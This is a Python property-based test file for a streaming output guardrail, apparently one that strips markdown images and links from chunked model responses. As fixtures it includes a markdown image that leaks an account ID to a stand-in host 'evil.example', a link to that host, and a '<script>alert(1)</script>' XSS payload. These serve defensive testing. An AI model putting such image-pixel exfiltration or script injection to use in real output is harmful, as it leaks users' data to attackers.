"""A stream that may hold at most `max_chars` unaudited: the text a client joins from its
pieces is exactly the audited text, as one text, whatever the chunking and the limit."""

from __future__ import annotations

import re

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rendering import problems, render
from test_safe_output_property import ALLOWED, STRIP, responses

from analyzers.engine.guardrails.stream import BoundedStream, InlineStreamAuditor, audit_text

EXFILTRATION = (
    "The quarterly numbers are below. " * 4 + "\nChart: ![chart](\n",
    "https:evil.example/pixel.png?leak=ACCOUNT-1234)\n\nDone.",
)


def stream(chunks: list[str], max_chars: int) -> tuple[BoundedStream, str]:
    """The stream after `chunks`, and the text its client joined."""
    bounded = BoundedStream(InlineStreamAuditor(STRIP), max_chars)
    client = []
    for chunk in chunks:
        client += [p.text for p in bounded.feed(chunk)]
        held = bounded.fed_chars - bounded.audited_chars + len(bounded.partial)
        assert held <= max_chars, (held, max_chars)
    client += [p.text for p in bounded.finish()]
    return bounded, "".join(client)


def chunked(text: str, cuts: list[int]) -> list[str]:
    points = [0, *sorted({c for c in cuts if c < len(text)}), len(text)]
    return [text[a:b] for a, b in zip(points, points[1:], strict=False)]


@settings(
    max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    text=responses, cuts=st.lists(st.integers(0, 600), max_size=12), max_chars=st.integers(1, 120)
)
@example(text="".join(EXFILTRATION), cuts=[len(EXFILTRATION[0])], max_chars=120)
@example(text="See [click here](\nhttps://evil.example/x) now", cuts=[18], max_chars=10)
@example(text="```\n" + "x " * 80 + "\n```\n<script>alert(1)</script>", cuts=[], max_chars=30)
def test_the_joined_pieces_are_the_audited_text_and_render_safely(text, cuts, max_chars):
    bounded, client = stream(chunked(text, cuts), max_chars)
    assert client == audit_text(bounded.text(), STRIP).cleaned_response
    assert problems(client, ALLOWED) == [], repr((text, client))
    if "`" not in text and "~" not in text:  # no fence closed and opened again
        # what arrived, with only line ends added at the cuts
        assert re.sub(r"\s", "", bounded.text()) == re.sub(r"\s", "", text)


def test_an_image_split_across_a_cut_reaches_the_client_as_no_image():
    bounded, client = stream(list(EXFILTRATION), max_chars=120)
    assert bounded.cuts >= 1
    html = render(client)
    assert "<img" not in html and "evil.example" not in html
    # the unbounded stream holds the paragraph whole: the batch audit strips the image too
    _, whole = stream(list(EXFILTRATION), max_chars=10_000)
    assert "evil.example" not in render(whole)


def test_a_cut_inside_a_fence_closes_and_reopens_it():
    text = "```sh\n" + "echo https://evil.example/x\n" * 20 + "```\n"
    bounded, client = stream([text], max_chars=100)
    assert bounded.cuts >= 2
    assert client.count("```") % 2 == 0
    # the commands are left as written, in code blocks
    assert client.count("echo https://evil.example/x") == 20
    assert "<a " not in render(client)


def test_without_a_limit_nothing_is_cut():
    text = "word " * 2000
    bounded, client = stream([text[i : i + 7] for i in range(0, len(text), 7)], 10**9)
    assert bounded.cuts == 0 and bounded.text() == text
